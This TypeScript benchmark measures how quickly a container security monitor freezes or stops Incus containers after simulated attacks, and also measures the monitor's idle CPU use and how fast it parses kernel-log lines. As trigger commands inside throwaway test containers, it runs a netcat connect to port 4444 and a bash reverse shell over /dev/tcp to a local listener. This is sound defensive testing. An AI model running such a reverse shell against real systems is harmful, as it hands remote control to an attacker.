// Containment latency of the host monitor: from the attacking syscall to Incus reporting the
// container frozen or stopped, for a network critical (connect to port 4444, seen in the kernel
// log) and a process critical (bash reverse shell, seen by the process scanner), beside the raw
// freeze API call measured in the same run. Then the daemon's CPU with 10 idle monitored
// containers, and how many kernel-log lines per second the parser and classifier handle.
// Needs root and the coi host set-up; containers are named coi-test-bench-… and deleted at the end.
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer, type Server, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { loadConfig } from '../src/core/config/index.js';
import { forceDelete } from '../src/core/container/force-delete.js';
import { containerName } from '../src/shared/naming.js';
import { Incus, IncusNotFoundError, eventInstance, isLifecycle } from '../src/incus/index.js';
import { classifyNetworkEvent } from '../src/security/detectors/network.js';
import { MonitorDaemon } from '../src/security/monitor/daemon.js';
import { defaultHostNetwork } from '../src/core/session/network.js';
import { monitorSettings } from '../src/core/policy/monitor-settings.js';
import { NetworkGuard, withFreeAddress } from '../src/security/network/index.js';
import { EMPTY_ALLOWLIST, logPrefix, type NetworkPolicy } from '../src/security/nft/index.js';
import { parseKmsgRecord, parseNftLog } from '../src/security/sources/kmsg-parse.js';
import { readText } from '../src/security/sources/proc-read.js';
import { baseImageAlias } from '../src/core/image/recipe.js';

const PREFIX = `coi-test-bench${process.pid.toString(16)}-`;
const TRIALS = 20;
const IDLE_CONTAINERS = 10;
const CPU_WINDOW_MS = 60_000;
const ATTACK_PORT = 4444;
const LOCK_DIR = '/tmp/coi-test-address-locks';

const RESTRICTED: NetworkPolicy = {
  mode: 'restricted',
  allowlist: EMPTY_ALLOWLIST,
  allowLocalNetworkAccess: false,
  blockPrivateNetworks: true,
  blockMetadataEndpoint: true,
  logging: { ratePerSecond: 100, connections: false, dnsQueries: false },
};

const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
const ms = (from: bigint, to: bigint) => Number(to - from) / 1e6;

function percentile(values: number[], p: number): number {
  const sorted = [...values].sort((a, b) => a - b);
  return sorted[Math.min(sorted.length - 1, Math.ceil((p / 100) * sorted.length) - 1)]!;
}

function summary(label: string, values: number[]): string {
  if (values.length === 0) return `${label}: no samples`;
  const f = (n: number) => n.toFixed(1).padStart(7);
  return `${label.padEnd(44)} n=${String(values.length).padStart(2)}  p50 ${f(percentile(values, 50))} ms  p95 ${f(percentile(values, 95))} ms  max ${f(Math.max(...values))} ms`;
}

/**
 * Whether the kernel has the container's processes stopped: frozen (cgroup v1 freezer or v2
 * cgroup.freeze) or its cgroup gone. Incus may report a freeze up to a second later: liblxc polls
 * the v1 freezer state once a second while it reads FREEZING.
 */
function kernelContained(name: string): boolean {
  const v1 = readText(`/sys/fs/cgroup/freezer/lxc.payload.${name}/freezer.state`);
  if (v1 !== undefined) return v1.startsWith('FROZEN');
  const v2 = readText(`/sys/fs/cgroup/lxc.payload.${name}/cgroup.events`);
  return v2 === undefined || /^frozen 1$/m.test(v2);
}

/** The attacker's listener on the gateway: the accept time is when the attacking connect() ran. */
class Listener {
  private server?: Server;
  private readonly sockets: Socket[] = [];
  private waiter?: (at: bigint) => void;

  async open(address: string): Promise<void> {
    this.server = createServer((socket) => {
      const at = process.hrtime.bigint();
      this.sockets.push(socket);
      socket.on('error', () => undefined);
      this.waiter?.(at);
    });
    await new Promise<void>((resolve, reject) => {
      this.server!.once('error', reject);
      this.server!.listen(ATTACK_PORT, address, resolve);
    });
  }

  nextAccept(timeoutMs: number): Promise<bigint | undefined> {
    return new Promise((resolve) => {
      const timer = setTimeout(() => resolve(undefined), timeoutMs);
      this.waiter = (at) => {
        clearTimeout(timer);
        this.waiter = undefined;
        resolve(at);
      };
    });
  }

  async close(): Promise<void> {
    for (const s of this.sockets) s.destroy();
    await new Promise<void>((resolve) =>
      this.server ? this.server.close(() => resolve()) : resolve(),
    );
  }
}

export async function run(): Promise<void> {
  const incus = Incus.local();
  const daemonIncus = Incus.local();
  const home = mkdtempSync(join(tmpdir(), 'coi-bench-monitor-'));
  const host = await defaultHostNetwork(incus);
  if (!host) throw new Error('the default profile has no bridged eth0: run `coi setup` first');
  const guard = new NetworkGuard(host);
  const image = baseImageAlias();
  const created = new Set<string>();
  const { config } = loadConfig({ cwd: home, home, env: {} });
  const settings = monitorSettings(config);
  // The copy is made after containment; leaving it out keeps 40 kills quick.
  settings.forensicsOnKill = false;
  const daemon = new MonitorDaemon({
    incus: daemonIncus,
    coiDir: join(home, '.coi'),
    prefix: PREFIX,
    settings,
    network: true,
    releaseNetwork: (ip) => guard.release(ip),
  });
  const contained = new Map<string, bigint>();
  await incus.connect();
  incus.events.subscribe((event) => {
    if (!isLifecycle(event, 'instance-paused', 'instance-stopped')) return;
    const name = eventInstance(event);
    if (name && !contained.has(name)) contained.set(name, process.hrtime.bigint());
  });
  const listener = new Listener();
  await listener.open(host.gateway);

  const launch = async (name: string, pinned: boolean): Promise<void> => {
    created.add(name);
    if (!pinned) {
      await (await incus.instances.create({ name, image: { alias: image }, start: true })).wait();
      return;
    }
    const ip = await withFreeAddress(incus, host.bridge, LOCK_DIR, async (ip) => {
      await (
        await incus.instances.create({
          name,
          image: { alias: image },
          devices: {
            eth0: {
              type: 'nic',
              network: host.bridge,
              name: 'eth0',
              'ipv4.address': ip,
              'security.ipv4_filtering': 'true',
            },
          },
        })
      ).wait();
      return ip;
    });
    await guard.prepare(name, ip, RESTRICTED);
    await guard.apply(ip);
    await (await incus.instances.start(name)).wait();
  };
  const remove = async (name: string) => {
    await guard.release(name).catch(() => undefined);
    try {
      await (await forceDelete(incus, name)).wait();
    } catch (err) {
      if (!(err instanceof IncusNotFoundError)) throw err;
    }
    created.delete(name);
  };
  const ready = async (name: string) => {
    await daemon.watchOf(name, 30_000);
    for (let i = 0; i < 300; i++) {
      const r = await incus.exec.run(name, ['sh', '-c', 'ip -4 -o addr show dev eth0']);
      if (r.stdout.toString().includes('inet ')) return;
      await sleep(100);
    }
    throw new Error(`${name} got no address`);
  };

  try {
    await daemon.start(false);

    // Raw freeze API call on an idle container the monitor ignores.
    const freezeName = `${PREFIX}freeze`;
    await launch(freezeName, false);
    const freezeTimes: number[] = [];
    for (let i = 0; i < TRIALS; i++) {
      const t0 = process.hrtime.bigint();
      await (await incus.instances.freeze(freezeName)).wait();
      freezeTimes.push(ms(t0, process.hrtime.bigint()));
      await (await incus.instances.unfreeze(freezeName)).wait();
    }
    await remove(freezeName);

    const trial = async (kind: 'network' | 'process', attempt: number) => {
      const name = containerName(`/bench/${kind}/${attempt}`, 1, PREFIX);
      return { name, prepare: () => launch(name, true).then(() => ready(name)) };
    };
    const results: Record<'network' | 'process', number[]> = { network: [], process: [] };
    const kernel: Record<'network' | 'process', number[]> = { network: [], process: [] };
    const fallbacks: Record<'network' | 'process', number> = { network: 0, process: 0 };
    for (const kind of ['network', 'process'] as const) {
      console.log(`  ${kind} trials…`);
      for (let batch = 0; batch < TRIALS; batch += 5) {
        const trials = await Promise.all(
          Array.from({ length: Math.min(5, TRIALS - batch) }, (_, i) => trial(kind, batch + i)),
        );
        await Promise.all(trials.map((t) => t.prepare()));
        for (const t of trials) {
          const command =
            kind === 'network'
              ? ['nc', '-z', '-w', '2', host.gateway, String(ATTACK_PORT)]
              : ['bash', '-c', `bash -i >& /dev/tcp/${host.gateway}/${ATTACK_PORT} 0>&1`];
          const accepted = listener.nextAccept(2000);
          const issued = process.hrtime.bigint();
          void incus.exec.run(t.name, command).catch(() => undefined);
          const deadline = Date.now() + 10_000;
          let frozenAt: bigint | undefined;
          const poll = setInterval(() => {
            frozenAt ??= kernelContained(t.name) ? process.hrtime.bigint() : undefined;
          }, 1);
          while (!contained.has(t.name) && Date.now() < deadline) await sleep(5);
          clearInterval(poll);
          const start = (await accepted) ?? issued;
          if (start === issued) fallbacks[kind] += 1;
          const end = contained.get(t.name);
          if (end !== undefined) results[kind].push(ms(start, end));
          else console.log(`  ${t.name}: not contained within 10 s`);
          if (frozenAt !== undefined) kernel[kind].push(ms(start, frozenAt));
          // The responder deletes it; racing it with our own delete would fight over its state.
          for (let i = 0; i < 300 && (await incus.instances.exists(t.name)); i++) await sleep(100);
          await remove(t.name);
        }
      }
    }

    // CPU of the monitor (this process) with idle monitored containers.
    const idle = Array.from({ length: IDLE_CONTAINERS }, (_, i) =>
      containerName(`/bench/idle/${i}`, 1, PREFIX),
    );
    await Promise.all(idle.map((n) => launch(n, false)));
    await Promise.all(idle.map((n) => daemon.watchOf(n, 30_000)));
    await sleep(5000);
    const before = {
      cpu: process.cpuUsage(),
      status: daemon.status(),
      at: process.hrtime.bigint(),
    };
    await sleep(CPU_WINDOW_MS);
    const cpu = process.cpuUsage(before.cpu);
    const wall = ms(before.at, process.hrtime.bigint());
    const after = daemon.status();
    await Promise.all(idle.map((n) => remove(n)));

    console.log(summary('raw freeze API call (PUT state + wait)', freezeTimes));
    console.log(summary('network critical: connect → Incus frozen/stopped', results.network));
    console.log(summary('process critical: reverse shell → Incus frozen/stopped', results.process));
    console.log(summary('network critical: connect → kernel frozen', kernel.network));
    console.log(summary('process critical: reverse shell → kernel frozen', kernel.process));
    for (const kind of ['network', 'process'] as const)
      if (fallbacks[kind] > 0)
        console.log(
          `  (${kind}: ${fallbacks[kind]} trials timed from the exec request: no accept seen)`,
        );
    const cpuPercent = ((cpu.user + cpu.system) / 1000 / wall) * 100;
    const scans = after.scans - before.status.scans;
    console.log(
      `idle CPU, ${IDLE_CONTAINERS} monitored containers over ${Math.round(wall / 1000)} s: ` +
        `${cpuPercent.toFixed(2)} % of one core (${scans} process scans, ` +
        `${((after.scanBusyMs - before.status.scanBusyMs) / Math.max(1, scans)).toFixed(3)} ms each)`,
    );
    console.log(`kernel-log lines classified: ${kmsgThroughput().toLocaleString('en')} per second`);
  } finally {
    await listener.close();
    await daemon.stop();
    for (const name of [...created]) await remove(name);
    await daemonIncus.close();
    await incus.close();
    rmSync(home, { recursive: true, force: true });
  }
}

/** Lines per second through the kmsg record parser, the nft log parser and the classifier. */
function kmsgThroughput(): number {
  const kinds = ['port', 'meta', 'priv', 'conn'] as const;
  const lines = Array.from({ length: 10_000 }, (_, i) => {
    const kind = kinds[i % kinds.length]!;
    const message =
      `${logPrefix(kind, '10.99.0.23')}IN=incusbr0 OUT=eth0 MAC=00:16:3e:00:00:01 ` +
      `SRC=10.99.0.23 DST=10.99.0.1 LEN=60 TOS=0x00 PREC=0x00 TTL=64 ID=${i} DF PROTO=TCP ` +
      `SPT=${40000 + (i % 2000)} DPT=4444 WINDOW=64240 RES=0x00 SYN URGP=0`;
    return `4,${1000 + i},${123456789 + i},-;${message}\n`;
  });
  let alerts = 0;
  const t0 = process.hrtime.bigint();
  for (let round = 0; round < 20; round++)
    for (const line of lines) {
      const record = parseKmsgRecord(line);
      const event = record && parseNftLog(record.message);
      if (event && classifyNetworkEvent(event)) alerts += 1;
    }
  const seconds = ms(t0, process.hrtime.bigint()) / 1000;
  if (alerts === 0)
    throw new Error('the kmsg throughput lines raised no alert: check their format');
  return Math.round((lines.length * 20) / seconds);
}

if (process.argv[1] && import.meta.url === pathToFileURL(process.argv[1]).href) {
  await run();
  process.exit(0);
}
